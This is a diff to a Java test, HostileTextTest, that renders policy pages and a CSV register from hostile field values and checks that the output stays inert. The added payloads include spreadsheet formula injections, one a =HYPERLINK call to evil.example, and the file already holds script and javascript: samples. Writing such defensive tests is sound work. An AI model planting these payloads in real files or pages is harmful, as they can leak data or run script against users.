@@ -8,6 +8,7 @@ import dev.policyascode.lint.Finding;
 import dev.policyascode.lint.LintReport;
 import dev.policyascode.lint.Linter;
 import dev.policyascode.load.PolicyLoader;
+import dev.policyascode.render.RegisterRenderer;
 import dev.policyascode.render.SiteRenderer;
 import java.io.IOException;
 import java.nio.file.Files;
@@ -51,6 +52,12 @@ class HostileTextTest {
         "![FIELD](https://tracker.example/p.png)",
         "![FIELD](data:image/png;base64,iVBORw0KGgo=)",
         "FIELD <!-- a comment --> <?php x ?> <![CDATA[x]]>",
+        // Spreadsheet formulas, for the register's CSV (OWASP's list of first characters).
+        "=HYPERLINK(\"https://evil.example/FIELD\",\"x\")",
+        "+FIELD",
+        "-FIELD",
+        "@SUM(FIELD)",
+        "\r=FIELD",
         // Indented code: its leading spaces are syntax, and must survive into the Markdown page.
         "\t<b>FIELD</b> <javascript:alert(1)>",
         "    <script>alert('FIELD')</script>");
@@ -93,6 +100,18 @@ class HostileTextTest {
       all.append(page);
       if (name.endsWith(".html")) assertSafeHtml(name, page);
       else assertSafeMarkdown(name, page);
+    }
+    // The record of processing (policy:register) shows the same fields: HTML, Markdown and CSV.
+    Path register = dir.resolve("register");
+    List<String> records =
+        RegisterRenderer.withTemplates(null).render(report.policies(), register).files();
+    assertTrue(records.stream().anyMatch(n -> n.endsWith(".csv")), records.toString());
+    for (String name : records) {
+      String record = Files.readString(register.resolve(name));
+      all.append(record);
+      if (name.endsWith(".html")) assertSafeHtml(name, record);
+      else if (name.endsWith(".md")) assertSafeMarkdown(name, record);
+      else assertInertCsv(name, record);
     }
     // The payloads did reach the pages, as text: the test is not passing on empty pages.
     Set<String> shown = new TreeSet<>();
@@ -159,7 +178,11 @@ class HostileTextTest {
           "tbody",
           "tr",
           "th",
-          "td");
+          "td",
+          "caption",
+          "dl",
+          "dt",
+          "dd");
 
   private static final Pattern TAG = Pattern.compile("<(/?)([a-zA-Z][a-zA-Z0-9]*)([^>]*)>");
   private static final Pattern ATTRIBUTE =
@@ -196,18 +219,20 @@ class HostileTextTest {
 
   /**
    * Parses the Markdown page as a site would (CommonMark, raw HTML live) and reads every node: the
-   * only HTML is the renderer's own anchors, no image, and every link is to the web, mail or an
-   * anchor. Escaped text such as "\\[x\\](javascript:" is no link, and is allowed.
+   * only HTML is the renderer's own anchors (and the register's line breaks in table cells), no
+   * image, and every link is to the web, mail or an anchor. Escaped text such as
+   * "\\[x\\](javascript:" is no link, and is allowed.
    */
   static void assertSafeMarkdown(String name, String md) {
-    String body = md.substring(md.indexOf("\n---\n") + 5); // after the quoted front matter
+    // after the front matter, whose values are quoted
+    String body = md.startsWith("---\n") ? md.substring(md.indexOf("\n---\n") + 5) : md;
     org.commonmark.node.Node doc = org.commonmark.parser.Parser.builder().build().parse(body);
     doc.accept(
         new org.commonmark.node.AbstractVisitor() {
           @Override
           public void visit(org.commonmark.node.HtmlInline html) {
             assertTrue(
-                html.getLiteral().matches("<a id=\"[a-z0-9-]+\">|</a>"),
+                html.getLiteral().matches("<a id=\"[a-z0-9-]+\">|</a>|<br>"),
                 name + ": raw HTML " + html.getLiteral() + " in\n" + md);
           }
 
@@ -247,6 +272,19 @@ class HostileTextTest {
         || url.startsWith("http://")
         || url.startsWith("mailto:")
         || !url.matches("^[a-z][a-z0-9+.-]*:.*");
+  }
+
+  /** No cell of the CSV starts as a spreadsheet formula would, unless made text by a quote. */
+  static void assertInertCsv(String name, String csv) throws IOException {
+    String text = csv.startsWith("\uFEFF") ? csv.substring(1) : csv;
+    for (org.apache.commons.csv.CSVRecord row :
+        org.apache.commons.csv.CSVFormat.DEFAULT.parse(new java.io.StringReader(text))) {
+      for (String cell : row) {
+        assertFalse(
+            !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0,
+            name + ": a cell a spreadsheet would run: " + cell);
+      }
+    }
   }
 
   private static String formatted(List<Finding> findings) {
